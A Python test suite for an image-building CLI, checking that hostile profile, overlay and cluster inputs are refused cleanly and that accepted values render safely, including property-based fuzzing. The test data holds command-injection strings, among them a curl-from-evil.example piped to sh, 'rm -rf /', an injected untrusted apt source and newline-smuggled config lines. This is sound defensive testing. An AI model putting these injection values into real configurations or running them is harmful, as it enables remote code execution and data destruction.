"""Input safety: hostile or malformed profiles, overlays and cluster files are refused with one line naming
the file and the key, exit status 2, nothing written and no traceback; what is accepted renders into values
that are one token for a shell and one line for a config parser (goldenimage.render.rendered_safety)."""

from __future__ import annotations

import contextlib
import copy
import io
import json
import os
import tempfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from goldenimage.cli import main
from goldenimage.render.rendered_safety import check_host_user_data, check_template, check_user_data
from tests.conftest import EXAMPLES, TEST_KEY

PRIVATE_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"


def golden(*argv: str) -> tuple[int, str]:
    """Run the CLI in this process: (exit status, stderr). An exception escaping main() fails the test."""
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        status = main(list(argv))
    return status, err.getvalue()


def assert_refused(status: int, err: str, out: Path, *names: str) -> None:
    assert status == 2, err
    assert "Traceback" not in err
    lines = err.splitlines()
    assert lines[0].startswith("golden: error: "), err
    for needle in names:
        assert needle in lines[0], err
    assert not out.exists()


def write(path: Path, text: str | bytes) -> Path:
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    return path


# (the overlay's text, the key the one-line error must name). Each line of the list is here.
HOSTILE_OVERLAYS = [
    ('files: [{path: /etc/x, content: a, owner: "root:root; curl evil.example | sh #"}]', "files[0].owner"),
    ('files: [{path: "/etc/x y", content: a}]', "files[0].path"),
    ('files: [{path: "/etc/../shadow", content: a}]', "files[0].path"),
    ('files: [{path: "/etc/*", content: a}]', "files[0].path"),
    ('files: [{path: "/etc/x\\n", content: a}]', "files[0].path"),
    ('files: [{path: "/etc/{{ php }}/../x", content: a}]', "files[0].path"),
    ('files: [{path: "/etc/{{ nope }}/x", content: a}]', "files[0].path: unknown variable"),
    ('files: [{path: /etc/x, content: a}, {path: /etc/x, content: b}]', "files"),
    ('packages: ["htop\\n", reboot]', "packages[0]"),
    ('services: ["apache2\\n", reboot]', "services[0]"),
    ('services: ["--now"]', "services[0]"),
    ('instance_unique: ["/*"]', "instance_unique[0]"),
    ('instance_unique: ["/etc/*"]', "instance_unique[0]"),
    ('instance_unique: ["/var/lib/x; rm -rf /"]', "instance_unique[0]"),
    ('instance_unique: ["/etc"]', "instance_unique[0]"),
    ('instance_unique: ["/var/lib/mysql/.."]', "instance_unique[0]"),
    ('instance_unique: ["/var/lib/mysql/.*"]', "instance_unique[0]"),
    ('sysctls: {vm.swappiness: "10\\nkernel.modules_disabled = 1"}', "sysctls.vm.swappiness"),
    ('sysctls: {"vm.swappiness\\nkernel.x": 1}', "sysctls"),
    ('apt: {mirror: "http://deb.debian.org/debian\\ndeb [trusted=yes] http://evil.example/ x main"}', "apt.mirror"),
    ('apt: {mirror: "http://deb.debian.org/debian [trusted=yes]"}', "apt.mirror"),
    ('apt: {mirror: "ftp//nowhere"}', "apt.mirror"),
    ('apt: {sources: {x: {source: "deb [trusted=yes] http://evil.example/ stable main"}}}', "apt.sources.x.source"),
    ('apt: {sources: {"../x": {source: "deb http://evil.example/ stable main"}}}', "apt.sources"),
    ('system: {ntp_servers: ["pool.ntp.org\\nserver evil.example"]}', "system.ntp_servers[0]"),
    ('system: {timezone: Mars/Olympus}', "system.timezone"),
    ('system: {locale: xx_XX.UTF-8}', "system.locale"),
    ('system: {locale: "en_US.UTF-8\\n"}', "system.locale"),
    ("users: [{name: root}]", "users[0].name"),
    ("users: [{name: golden-build}]", "users[0].name"),
    (f"users: [{{name: ops, ssh_authorized_keys: [{json.dumps(PRIVATE_KEY)}]}}]", "users[0].ssh_authorized_keys[0]"),
    (f"users: [{{name: ops, ssh_authorized_keys: [{json.dumps(TEST_KEY + chr(10) + TEST_KEY)}]}}]",
     "users[0].ssh_authorized_keys[0]"),
    ("users: [{name: ops, ssh_authorized_keys: ['command=\"sh\" ssh-ed25519 AAAAC3Nza x']}]",
     "users[0].ssh_authorized_keys[0]"),
    ("users: [{name: ops}, {name: ops}]", "users"),
    ('users: [{name: ops, groups: ["adm;reboot"]}]', "users[0].groups[0]"),
    ('users: [{name: ops, shell: "/bin/bash; reboot"}]', "users[0].shell"),
    ('users: [{name: "ops\\n"}]', "users[0].name"),
    ("settings: {web: {helth_path: /x}}", "settings.web.helth_path: unknown key: did you mean 'health_path'?"),
    ("settings: {wbe: {health_path: /x}}", "settings.wbe: unknown key: did you mean 'web'?"),
    ('settings: {web: {health_path: "/x\\n"}}', "settings.web.health_path"),
    ('settings: {firstboot: {retry_attempts: "many"}}', "settings.firstboot"),
    ('bake_commands: ["true\\nreboot"]', "bake_commands[0]"),
    ("packages: [htop]\npackages: [jq]", "given twice"),
]


@pytest.mark.parametrize(("text", "key"), HOSTILE_OVERLAYS, ids=[k for _, k in HOSTILE_OVERLAYS])
def test_hostile_overlay_is_refused_naming_the_overlay_and_key(tmp_path: Path, text: str, key: str) -> None:
    overlay = write(tmp_path / "cust.yaml", text + "\n")
    out = tmp_path / "out"
    status, err = golden("render", "web", "--overlay", str(overlay), "--out", str(out))
    assert_refused(status, err, out, "cust.yaml", key)


@pytest.mark.parametrize(("text", "key"), [
    ("extends: base\nroles: [web]\ndisk_size: 99999999G\n", "disk_size"),
    ("extends: base\nroles: [web]\ndisk_size: 512M\n", "disk_size"),
    ("extends: base\nroles: [web]\nabstract: true\n", "abstract"),
    ("", "empty profile"),
    ("# nothing but a comment\n", "empty profile"),
    ('extends: "../../etc/x"\n', "extends"),
])
def test_hostile_profile_is_refused(tmp_path: Path, text: str, key: str) -> None:
    profile = write(tmp_path / "p.yaml", text)
    out = tmp_path / "out"
    status, err = golden("render", str(profile), "--out", str(out))
    assert_refused(status, err, out, "p.yaml", key)


def test_a_profile_file_name_that_is_not_a_plain_word_is_refused(tmp_path: Path) -> None:
    # The name becomes the image's, the template's and the bake VM's host name.
    profile = write(tmp_path / "a;reboot.yaml", "extends: base\nroles: [web]\n")
    status, err = golden("render", str(profile), "--out", str(tmp_path / "out"))
    assert_refused(status, err, tmp_path / "out", "not a profile name")


def test_a_null_disk_size_or_layout_keeps_the_inherited_one(tmp_path: Path) -> None:
    # Found by the property test below: `disk_size: null` ended in a TypeError.
    profile = write(tmp_path / "p.yaml", "extends: base\nroles: [web]\ndisk_size: null\ndisk_layout: null\n")
    status, err = golden("render", str(profile), "--out", str(tmp_path / "out"))
    assert status == 0, err
    assert json.loads((tmp_path / "out" / "p-debian12-qemu.pkrvars.json").read_text())["disk_size"] == "4G"


def test_the_abstract_base_is_not_rendered(tmp_path: Path) -> None:
    status, err = golden("render", "base", "--out", str(tmp_path / "out"))
    assert_refused(status, err, tmp_path / "out", "base.yaml", "abstract")


@pytest.mark.parametrize("as_overlay", [False, True])
def test_a_file_that_is_not_utf8_is_one_line_naming_it(tmp_path: Path, as_overlay: bool) -> None:
    bad = write(tmp_path / "latin1.yaml", "extends: base\nroles: [web]\ndescription: caf\u00e9\n".encode("latin-1"))
    out = tmp_path / "out"
    args = ("web", "--overlay", str(bad)) if as_overlay else (str(bad),)
    status, err = golden("render", *args, "--out", str(out))
    assert_refused(status, err, out, "latin1.yaml", "not UTF-8")


def test_an_overlay_that_is_a_directory_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "dir.yaml").mkdir()
    status, err = golden("render", "web", "--overlay", str(tmp_path / "dir.yaml"), "--out", str(tmp_path / "out"))
    assert_refused(status, err, tmp_path / "out", "dir.yaml")


def test_an_overlays_error_about_removals_names_the_overlay(tmp_path: Path) -> None:
    overlay = write(tmp_path / "cust.yaml", "remove_packages: [chrony]\n")
    status, err = golden("render", "web", "--overlay", str(overlay), "--out", str(tmp_path / "out"))
    assert_refused(status, err, tmp_path / "out", "cust.yaml: remove_packages")


# --out: golden owns only what it wrote.

def test_empty_out_is_refused_not_taken_as_the_current_directory(tmp_path: Path) -> None:
    status, err = golden("render", "web", "--out=")
    assert status == 2 and err.startswith("golden: error: --out: empty")
    status, err = golden("cluster", "render", str(EXAMPLES / "cluster.yaml"), "--out=")
    assert status == 2 and err.startswith("golden: error: --out: empty")


def test_a_directory_golden_did_not_write_is_left_alone(tmp_path: Path) -> None:
    out = tmp_path / "mine"
    out.mkdir()
    (out / "notes.txt").write_text("keep\n")
    status, err = golden("render", "web", "--out", str(out))
    assert status == 2 and "not written by golden" in err.splitlines()[0]
    assert [p.name for p in out.iterdir()] == ["notes.txt"]


def test_a_render_replaces_its_own_earlier_render_whole(tmp_path: Path) -> None:
    out = tmp_path / "r"
    assert golden("render", "web", "--out", str(out))[0] == 0
    (out / "stale").write_text("from an earlier render\n")
    assert golden("render", "lb", "--out", str(out))[0] == 0
    assert not (out / "stale").exists() and (out / "lb-debian12-qemu.pkr.json").is_file()
    assert not (out / "web-debian12-qemu.pkr.json").exists()


@pytest.mark.parametrize("layout", ["file", "file-as-parent"])
def test_an_unusable_out_is_one_line_exit_2(tmp_path: Path, layout: str) -> None:
    target = write(tmp_path / "afile", "x\n")
    out = target if layout == "file" else target / "sub"
    status, err = golden("render", "web", "--out", str(out))
    assert status == 2 and len([ln for ln in err.splitlines() if not ln.startswith("  hint:")]) == 1, err
    assert target.read_text() == "x\n"


def test_validate_with_a_bad_release_is_one_line() -> None:
    status, err = golden("validate", "--debian", "abc")
    assert status == 2 and err.startswith("golden: error: unsupported Debian release 'abc'")


def test_an_oserror_reaching_main_is_one_line(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from goldenimage.commands import profiles_cli

    def broken(args: Any) -> int:
        raise PermissionError(13, "Permission denied", "/somewhere")

    monkeypatch.setattr(profiles_cli, "_cmd_profiles", broken)
    status, err = golden("profiles")
    assert (status, err) == (1, "golden: error: Permission denied: /somewhere\n")


# Cluster files.

def _cluster() -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load((EXAMPLES / "cluster.yaml").read_text())
    data["ssh_authorized_keys"] = [TEST_KEY]
    return data


HOSTILE_CLUSTERS = [
    (["ssh_authorized_keys", 0], TEST_KEY + "\n" + TEST_KEY, "ssh_authorized_keys[0]"),
    (["ssh_authorized_keys", 0], PRIVATE_KEY, "ssh_authorized_keys[0]"),
    (["hosts", 0, "name"], "db1\n", "hosts[0].name"),
    (["name"], "shop\nx", "name"),
    (["interface", "mac_prefix"], "52:54:00:10:00\n", "interface.mac_prefix"),
    (["hosts", 2, "exports"], [{"path": "/srv/nfs/www", "options": "rw\n/ *(rw,no_root_squash)"}],
     "hosts[2].exports[0].options"),
    (["hosts", 2, "exports"], ["/srv/nfs/*"], "hosts[2].exports[0].path"),
    (["db_users", 0, "host"], "%", "db_users"),
    (["db_users", 0, "host"], "192.0.2.1", "db_users"),
    (["vhosts", 0, "server_name"], "shop.example.com\nInclude /etc/shadow", "vhosts[0].server_name"),
    (["secrets", "replication_password"], {"env": "X;reboot"}, "secrets.replication_password.env"),
]


def _set(data: Any, path: list[Any], value: Any) -> None:
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


@pytest.mark.parametrize(("path", "value", "key"), HOSTILE_CLUSTERS, ids=[k for _, _, k in HOSTILE_CLUSTERS])
def test_hostile_cluster_file_is_refused(tmp_path: Path, path: list[Any], value: Any, key: str) -> None:
    data = _cluster()
    _set(data, path, value)
    file = write(tmp_path / "cluster.yaml", yaml.safe_dump(data))
    out = tmp_path / "out"
    status, err = golden("cluster", "render", str(file), "--out", str(out))
    assert_refused(status, err, out, "cluster.yaml", key)


def test_a_grant_host_inside_the_network_is_rendered_in_mariadbs_form(tmp_path: Path) -> None:
    data = _cluster()
    data["db_users"][0]["host"] = "10.10.0.16/28"
    file = write(tmp_path / "cluster.yaml", yaml.safe_dump(data))
    status, err = golden("cluster", "render", str(file), "--out", str(tmp_path / "out"))
    assert status == 0, err
    user_data = (tmp_path / "out" / "db1" / "user-data").read_text()
    assert not check_host_user_data(user_data)
    import base64

    content = yaml.safe_load(user_data)["write_files"][0]["content"]
    assert json.loads(base64.b64decode(content))["mariadb"]["users"][0]["host"] == "10.10.0.16/255.255.255.240"


def test_a_non_utf8_cluster_file_is_one_line(tmp_path: Path) -> None:
    file = write(tmp_path / "cluster.yaml", b"name: caf\xe9\n")
    status, err = golden("cluster", "render", str(file), "--out", str(tmp_path / "out"))
    assert_refused(status, err, tmp_path / "out", "cluster.yaml", "not UTF-8")


def test_the_rendered_checks_catch_an_unquoted_value() -> None:
    """The oracle of the property tests can fail: a chown line built without quoting is caught."""
    text = yaml.safe_dump({"runcmd": ["chown root:root; curl evil.example | sh # /etc/x"],
                           "write_files": [{"path": "/etc/x y"}], "packages": ["htop\n"]})
    assert len(check_user_data(text)) == 3
    template = {"build": {"provisioner": [{"shell": {"environment_vars": ["GOLDEN_INSTANCE_UNIQUE=/*"]}}]}}
    assert check_template(template)


# Property: random mutations of valid files never end in a traceback; refused is exit 2 with lines naming
# a file; accepted renders nothing shell-active or multi-line.

HOSTILE = ["x\nreboot", "htop\n", "a;reboot", "$(reboot)", "`reboot`", "a b", "/*", "/etc/../x", "", " ", "x\r",
           "#x", "'", '"', "\\", '${env("HOME")}', "{{ php }}", "{{ nope }}", "[trusted=yes]", "root", "golden-build",
           PRIVATE_KEY, TEST_KEY + "\n" + TEST_KEY, "\u00fc", "x" * 300, "..", "/", "//etc", "-rf", "%", "0.0.0.0/0",
           "10.10.0.300", "52:54:00", "http://", "\x00", "\u2028"]
SCALARS = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12),
    st.integers(min_value=-2, max_value=2**40), st.booleans(), st.none(), st.floats(allow_nan=False),
)
VALUES = st.one_of(SCALARS, st.lists(SCALARS, max_size=3),
                   st.dictionaries(st.sampled_from(["a", "web", "path", "name", "x"]), SCALARS, max_size=2))

PROFILE = {
    "extends": "base",
    "roles": ["web"],
    "packages": ["htop"],
    "services": ["cron"],
    "files": [{"path": "/etc/golden-test", "content": "x\n", "owner": "www-data:www-data", "permissions": "0640"}],
    "sysctls": {"vm.swappiness": 10},
    "users": [{"name": "ops", "groups": ["adm"], "shell": "/bin/bash", "ssh_authorized_keys": [TEST_KEY]}],
    "apt": {"mirror": "http://deb.debian.org/debian"},
    "system": {"timezone": "Etc/UTC", "locale": "en_US.UTF-8", "ntp_servers": ["ntp.example.org"]},
    "settings": {"web": {"health_path": "/h"}, "firstboot": {"retry_attempts": 3}},
    "instance_unique": ["/var/lib/golden-test/*.key"],
    "bake_commands": ["true"],
    "disk_size": "8G",
}
OVERLAY = {k: v for k, v in PROFILE.items() if k not in ("extends", "roles", "disk_size")}


def _places(data: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every key and index path in `data`: the places a mutation can hit."""
    places = [path] if path else []
    if isinstance(data, dict):
        for key, value in data.items():
            places += _places(value, (*path, key))
    elif isinstance(data, list):
        for i, value in enumerate(data):
            places += _places(value, (*path, i))
    return places


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any]) -> dict[str, Any]:
    data = copy.deepcopy(base)
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        places = _places(data)
        if not places:
            break
        place = draw(st.sampled_from(places))
        parent: Any = data
        for part in place[:-1]:
            parent = parent[part]
        action = draw(st.sampled_from(["replace", "replace", "delete", "add", "key"]))
        if action == "replace":
            parent[place[-1]] = draw(VALUES)
        elif action == "delete":
            del parent[place[-1]]
        elif action == "add" and isinstance(parent[place[-1]], dict):
            parent[place[-1]][draw(SCALARS.filter(lambda k: isinstance(k, str | int)))] = draw(VALUES)
        elif action == "add" and isinstance(parent[place[-1]], list):
            parent[place[-1]].append(draw(VALUES))
        elif action == "key" and isinstance(parent, dict):
            # a key renamed, e.g. a misspelling or a hostile string as a key
            parent[draw(st.sampled_from(HOSTILE + ["packges", "setings"]))] = parent.pop(place[-1])
    return data


def _check_outcome(status: int, err: str, out: Path, names: tuple[str, ...]) -> None:
    assert status in (0, 2), err
    assert "Traceback" not in err
    if status == 2:
        assert not out.exists()
        lines = [ln for ln in err.splitlines() if not ln.startswith("  hint:")]
        assert lines and lines[0].startswith("golden: error: "), err
        assert any(name in err for name in names), err


# 30 examples keep the fast suite fast; GOLDEN_FUZZ_EXAMPLES=1000 searches harder.
PROPERTY = settings(max_examples=int(os.environ.get("GOLDEN_FUZZ_EXAMPLES", "30")), deadline=None,
                    suppress_health_check=[HealthCheck.too_slow])


@PROPERTY
@given(mutated(PROFILE))
def test_any_mutated_profile_is_refused_cleanly_or_renders_safely(data: dict[str, Any]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        profile = write(Path(tmp) / "prof.yaml", yaml.safe_dump(data))
        out = Path(tmp) / "out"
        status, err = golden("render", str(profile), "--out", str(out))
        _check_outcome(status, err, out, ("prof.yaml", "base.yaml", "roles/"))
        if status == 0:
            assert check_user_data((out / "user-data").read_text()) == []
            assert check_template(json.loads((out / "prof-debian12-qemu.pkr.json").read_text())) == []


@PROPERTY
@given(mutated(OVERLAY))
def test_any_mutated_overlay_is_refused_cleanly_or_renders_safely(data: dict[str, Any]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        overlay = write(Path(tmp) / "cust.yaml", yaml.safe_dump(data))
        out = Path(tmp) / "out"
        status, err = golden("render", "web", "--overlay", str(overlay), "--out", str(out))
        _check_outcome(status, err, out, ("cust.yaml",))
        if status == 0:
            assert check_user_data((out / "user-data").read_text()) == []
            assert check_template(json.loads((out / "web-debian12-qemu.pkr.json").read_text())) == []


@PROPERTY
@given(mutated(_cluster()))
def test_any_mutated_cluster_file_is_refused_cleanly_or_renders_safely(data: dict[str, Any]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        file = write(Path(tmp) / "cluster.yaml", yaml.safe_dump(data))
        out = Path(tmp) / "out"
        status, err = golden("cluster", "render", str(file), "--out", str(out))
        _check_outcome(status, err, out, ("cluster.yaml",))
        if status == 0:
            for user_data in out.glob("*/user-data"):
                assert check_host_user_data(user_data.read_text()) == []


def test_a_release_matrix_with_a_release_given_twice_is_refused_naming_the_file(tmp_path: Path) -> None:
    """releases.yaml goes through the same reader as profiles: PyYAML alone would keep the last entry."""
    from goldenimage.core.errors import InputError
    from goldenimage.core.paths import shipped
    from goldenimage.model.releases import load_matrix

    shipped_matrix = (shipped("profiles") / "releases.yaml").read_text()
    matrix_file = tmp_path / "releases.yaml"
    matrix_file.write_text(shipped_matrix)
    assert 12 in load_matrix(matrix_file).releases  # the shipped content as it is reads fine
    matrix_file.write_text(shipped_matrix.replace("\nreleases:\n", "\nreleases:\n  12: {}\n", 1))
    with pytest.raises(InputError, match=r"releases\.yaml: .*given twice"):
        load_matrix(matrix_file)
